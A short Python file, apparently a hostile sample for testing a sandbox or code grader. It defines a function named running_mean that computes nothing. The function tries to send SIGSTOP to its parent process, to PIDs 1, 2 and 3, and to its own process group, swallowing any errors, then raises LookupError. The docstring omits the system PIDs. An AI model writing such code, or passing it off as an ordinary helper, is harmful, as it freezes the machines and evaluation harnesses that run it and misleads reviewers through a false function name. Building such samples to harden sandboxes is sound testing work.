"""Sends SIGSTOP to its parent, to its group and to itself."""
import os
import signal


def running_mean(x):
    for pid in (os.getppid(), 1, 2, 3, 0):
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            continue
    raise LookupError
